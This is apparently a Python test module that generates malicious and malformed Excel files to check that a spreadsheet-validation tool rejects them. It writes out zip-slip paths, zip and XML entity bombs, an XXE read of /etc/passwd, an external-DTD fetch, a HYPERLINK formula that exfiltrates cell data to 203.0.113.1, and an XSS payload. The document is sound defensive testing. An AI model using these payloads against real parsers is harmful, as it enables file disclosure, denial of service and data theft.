"""A corpus of hostile and broken files, built in the tests (nothing malicious is committed).

Each case: a file name, how to make it, and what cbc must say. `expect` is a set of finding
codes, any of which is a correct rejection; `None` means the file is a readable return whose
*content* is hostile (formula injection, HTML, control characters, odd names): it is read, and
what cbc writes from it must be safe.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from tests import samples
from cbc_cli.model.edition import get_edition

GUARD = {"suspicious-file"}
BROKEN = {"corrupt-file"}
NOT_WB = {"not-a-workbook"}


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Path], None]
    expect: set[str] | None


def _good_values() -> dict:
    return samples.full_values(get_edition("2020"), "county", seed=77)


def good_bytes(tmp: Path, unit: str = "南海新区总工会", values: dict | None = None, report_date=date(2020, 5, 28)) -> bytes:
    p = tmp / "_good.xlsx"
    samples.write_generated(p, get_edition("2020"), unit=unit, report_date=report_date,
                            values=values or _good_values(), period="2020H1")
    data = p.read_bytes()
    p.unlink()
    return data


def rezip(base: bytes, *, replace: dict[str, bytes | None] | None = None, add: list[tuple[str, bytes]] = (),
          method: int = zipfile.ZIP_DEFLATED) -> bytes:
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", method) as dst:
        for info in src.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    dst.writestr(info.filename, replace[info.filename])
            else:
                dst.writestr(info.filename, src.read(info.filename))
        for name, data in add:
            dst.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def _read(base: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        return zf.read(name)


SHEET = "xl/worksheets/sheet1.xml"
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SST_NS = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
WS_NS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'


def _with_sst(tmp: Path, sst: bytes, sheet_cells: bytes) -> bytes:
    """A minimal workbook whose first sheet uses the given shared strings."""
    base = good_bytes(tmp)
    sheet = HEAD + WS_NS + sheet_cells + b"</sheetData></worksheet>"
    types = _read(base, "[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return rezip(base, replace={SHEET: sheet, "[Content_Types].xml": types}, add=[("xl/sharedStrings.xml", sst)])


def write(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def _patch_name(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


def cases() -> list[Case]:
    out: list[Case] = []

    def case(name: str, expect: set[str] | None):
        def deco(fn: Callable[[Path], None]) -> Callable[[Path], None]:
            out.append(Case(name, fn, expect))
            return fn
        return deco

    # --- not workbooks at all -------------------------------------------------------------
    @case("not-a-zip.xlsx", NOT_WB)
    def _(p): write(p, b"this is plain text, not a workbook\n" * 10)

    @case("empty.xlsx", {"empty-file"})
    def _(p): write(p, b"")

    @case("pdf-renamed.xlsx", NOT_WB)
    def _(p): write(p, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n")

    @case("html-saved-as.xls", NOT_WB)
    def _(p): write(p, "<html><body><table><tr><td>参与职工人数</td><td>12</td></tr></table></body></html>".encode())

    @case("csv-renamed.xlsx", NOT_WB)
    def _(p): write(p, "参与职工人数,120\n查出安全隐患数,30\n".encode("gbk"))

    @case("png-renamed.xlsx", NOT_WB)
    def _(p): write(p, b"\x89PNG\r\n\x1a\n" + os.urandom(200))

    @case("word-docx-renamed.xlsx", NOT_WB)
    def _(p):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("[Content_Types].xml", HEAD + b"<Types/>")
            z.writestr("word/document.xml", HEAD + b"<document/>")
        write(p, buf.getvalue())

    @case("plain-zip.xlsx", NOT_WB)
    def _(p):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("readme.txt", "hello")
        write(p, buf.getvalue())

    @case("xlsb-binary.xlsx", BROKEN)
    def _(p):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("[Content_Types].xml", HEAD + b"<Types/>")
            z.writestr("xl/workbook.bin", b"\x83\x01\x00")
        write(p, buf.getvalue())

    @case("too-large.xlsx", {"file-too-large"})
    def _(p):
        with open(p, "wb") as fh:
            fh.truncate(21 * 1024 * 1024)  # sparse: cheap to make

    # --- broken -----------------------------------------------------------------------------
    @case("truncated.xlsx", BROKEN)
    def _(p): write(p, good_bytes(p.parent)[:3000])

    @case("corrupt-member.xlsx", BROKEN)
    def _(p):
        data = bytearray(good_bytes(p.parent))
        at = data.find(b"xl/worksheets/sheet1.xml") + 60
        for i in range(at, at + 200):
            data[i] ^= 0x5A
        write(p, bytes(data))

    @case("missing-workbook-part.xlsx", BROKEN)
    def _(p): write(p, rezip(good_bytes(p.parent), replace={"xl/workbook.xml": None}))

    @case("sizes-that-lie.xlsx", BROKEN | GUARD)
    def _(p):
        data = bytearray(good_bytes(p.parent))
        # rewrite the declared uncompressed size of the sheet in the central directory
        name = SHEET.encode()
        cd = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
        struct.pack_into("<I", data, cd + 24, 10)
        write(p, bytes(data))

    @case("zero-sheets.xlsx", {"form-not-found", "corrupt-file"})
    def _(p):
        base = good_bytes(p.parent)
        wb = _read(base, "xl/workbook.xml")
        start, end = wb.find(b"<sheets>"), wb.find(b"</sheets>") + len(b"</sheets>")
        write(p, rezip(base, replace={"xl/workbook.xml": wb[:start] + b"<sheets/>" + wb[end:]}))

    @case("empty-workbook.xlsx", {"form-not-found"})
    def _(p):
        from openpyxl import Workbook

        Workbook().save(p)

    @case("ole-not-a-workbook.xls", BROKEN)
    def _(p): write(p, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4000))

    @case("encrypted.xlsx", {"encrypted"})
    def _(p): write(p, (Path(__file__).parent / "data" / "encrypted.xlsx").read_bytes())

    # --- zip tricks --------------------------------------------------------------------------
    @case("zip-slip.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), add=[("../../evil.xml", HEAD + b"<x/>")]))

    @case("absolute-name.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), add=[("/etc/evil.xml", HEAD + b"<x/>")]))

    @case("backslash-name.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), add=[("xl\\..\\..\\evil.xml", HEAD + b"<x/>")]))

    @case("nul-in-name.xlsx", GUARD)
    def _(p):
        data = rezip(good_bytes(p.parent), add=[("xl/zzzz.xml", HEAD + b"<x/>")])
        write(p, _patch_name(data, b"xl/zzzz.xml", b"xl/z\x00zz.xml"))

    @case("duplicate-members.xlsx", GUARD)
    def _(p):
        import warnings

        base = good_bytes(p.parent)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            write(p, rezip(base, add=[("xl/workbook.xml", _read(base, "xl/workbook.xml"))]))

    @case("too-many-members.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), add=[(f"xl/media/x{i}.xml", b"<x/>") for i in range(1200)]))

    @case("bzip2-member.xlsx", GUARD)
    def _(p):
        base = good_bytes(p.parent)
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w") as dst:
            for info in src.infolist():
                method = zipfile.ZIP_BZIP2 if info.filename == SHEET else zipfile.ZIP_DEFLATED
                dst.writestr(info.filename, src.read(info.filename), compress_type=method)
        write(p, out.getvalue())

    @case("zip-bomb.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), replace={SHEET: HEAD + WS_NS + b" " * (12 * 1024 * 1024)
                                                                   + b"</sheetData></worksheet>"}))

    @case("huge-member.xlsx", GUARD)
    def _(p):
        body = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, 9000))
        filler = os.urandom(9 * 1024 * 1024).hex().encode()  # incompressible, over the 16 MiB part limit
        write(p, rezip(good_bytes(p.parent), replace={SHEET: HEAD + WS_NS + body + b"</sheetData><!--" + filler
                                                                + b"--></worksheet>"}, method=zipfile.ZIP_STORED))

    # --- XML attacks --------------------------------------------------------------------------
    laughs = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
        + b"]>")

    @case("billion-laughs.xlsx", GUARD)
    def _(p): write(p, _with_sst(p.parent, HEAD + laughs + SST_NS + b' count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>',
                                 b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'))

    @case("quadratic-blowup.xlsx", GUARD)
    def _(p):
        dtd = b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
        write(p, _with_sst(p.parent, HEAD + dtd + SST_NS + b' count="1" uniqueCount="1"><si><t>' + b"&a;" * 20_000
                           + b"</t></si></sst>", b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'))

    @case("xxe-local-file.xlsx", GUARD)
    def _(p):
        base = good_bytes(p.parent)
        wb = _read(base, "xl/workbook.xml")
        evil = HEAD + b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + wb.replace(b"<sheets>", b"<sheets>&xxe;", 1)
        write(p, rezip(base, replace={"xl/workbook.xml": evil}))

    @case("external-dtd.xlsx", GUARD)
    def _(p):
        base = good_bytes(p.parent)
        sheet = _read(base, SHEET)
        write(p, rezip(base, replace={SHEET: HEAD + b'<!DOCTYPE worksheet SYSTEM "http://203.0.113.1/evil.dtd">' + sheet}))

    @case("doctype-after-comments.xlsx", GUARD)
    def _(p):
        base = good_bytes(p.parent)
        sheet = _read(base, SHEET)
        write(p, rezip(base, replace={SHEET: HEAD + b"<!-- hi -->" + b"<!DOCTYPE w [<!ENTITY e 'x'>]>" + sheet}))

    @case("utf16-xml.xlsx", GUARD)
    def _(p):
        base = good_bytes(p.parent)
        sheet = _read(base, SHEET).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        write(p, rezip(base, replace={SHEET: b"\xff\xfe" + sheet.encode("utf-16-le")}))

    @case("deep-nesting.xlsx", {"form-not-found", "suspicious-file", "corrupt-file"})
    def _(p):
        deep = b"<x>" * 200_000 + b"</x>" * 200_000
        write(p, rezip(good_bytes(p.parent), replace={
            SHEET: HEAD + WS_NS + b'<row r="1"><c r="A1" t="inlineStr"><is>' + deep + b"</is></c></row></sheetData></worksheet>"}))

    # --- shapes that make readers allocate ---------------------------------------------------
    @case("cell-at-XFD1048576.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), replace={
        SHEET: HEAD + WS_NS + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'}))

    @case("dimension-that-lies.xlsx", GUARD)
    def _(p): write(p, rezip(good_bytes(p.parent), replace={
        SHEET: HEAD + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        b'<row r="900000"><c r="CV900000"><v>1</v></c></row></sheetData></worksheet>'}))

    @case("huge-sharedstrings-count.xlsx", GUARD)
    def _(p): write(p, _with_sst(p.parent, HEAD + SST_NS + b' count="4000000000" uniqueCount="4000000000"><si><t>x</t></si></sst>',
                                 b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'))

    @case("one-mib-string-thousands-of-cells.xlsx", GUARD)
    def _(p):
        cells = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (i, i) for i in range(1, 5001))
        write(p, _with_sst(p.parent, HEAD + SST_NS + b' count="5000" uniqueCount="1"><si><t>' + b"A" * (1024 * 1024)
                           + b"</t></si></sst>", cells))

    @case("huge-inline-strings.xlsx", GUARD)
    def _(p):
        big = b"B" * 40_000
        cells = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c></row>' % (i, i, big) for i in range(1, 50))
        write(p, rezip(good_bytes(p.parent), replace={SHEET: HEAD + WS_NS + cells + b"</sheetData></worksheet>"}))

    @case("a-million-cells.xlsx", GUARD)
    def _(p):
        row = b"".join(b'<c r="%s1"><v>1</v></c>' % c.encode() for c in ("A", "B", "C", "D", "E", "F", "G", "H", "I", "J"))
        rows = b"".join(b'<row r="%d">' % i + row.replace(b'1"><v>', b'%d"><v>' % i) + b"</row>" for i in range(1, 100_001))
        write(p, rezip(good_bytes(p.parent), replace={SHEET: HEAD + WS_NS + rows + b"</sheetData></worksheet>"}))

    # --- hostile content: readable, written out safely -----------------------------------------
    @case("formula-injection.xlsx", {"unit-unlisted"})
    def _(p): write(p, good_bytes(p.parent, unit='=HYPERLINK("http://203.0.113.1/?"&A1,"点击")'))

    @case("script-in-unit-name.xlsx", {"unit-unlisted"})
    def _(p): write(p, good_bytes(p.parent, unit="<script>alert('x')</script><img src=x onerror=alert(1)>工会"))

    @case("control-characters.xlsx", {"unit-unlisted"})
    def _(p): write(p, good_bytes(p.parent, unit="威海\x07某\x1b[31m单位\x00工会"))

    @case("impossible-date.xlsx", {"date-invalid"})
    def _(p):
        path = p.parent / "_x.xlsx"
        samples.write_grid(path, get_edition("2020"), unit="综保区", date_text="2020年2月30日", values=_good_values())
        write(p, path.read_bytes())
        path.unlink()

    @case("formula-without-value.xlsx", {"formula-no-value"})
    def _(p):
        from openpyxl import load_workbook

        write(p, good_bytes(p.parent, unit="南海"))
        wb = load_workbook(p)
        wb["统计表"]["B4"] = "=1/0"
        wb.save(p)

    @case("xls-renamed-to.xlsx", None)
    def _(p):
        path = p.parent / "_x.xls"
        samples.write_xls_grid(path, get_edition("2020"), unit="南海新区", date_text="2020-05-29", values=_good_values())
        write(p, path.read_bytes())
        path.unlink()

    @case(" spaces in name .xlsx", None)
    def _(p): write(p, good_bytes(p.parent, unit="南海新区总工会"))

    @case("-rf leading dash.xlsx", None)
    def _(p): write(p, good_bytes(p.parent, unit="南海新区总工会"))

    @case("new\nline.xlsx", None)
    def _(p): write(p, good_bytes(p.parent, unit="南海新区总工会"))

    @case("长" * 70 + ".xlsx", None)
    def _(p): write(p, good_bytes(p.parent, unit="南海新区总工会"))

    return out


def build(folder: Path) -> dict[str, Case]:
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for c in cases():
        c.make(folder / c.name)
        made[c.name] = c
    return made
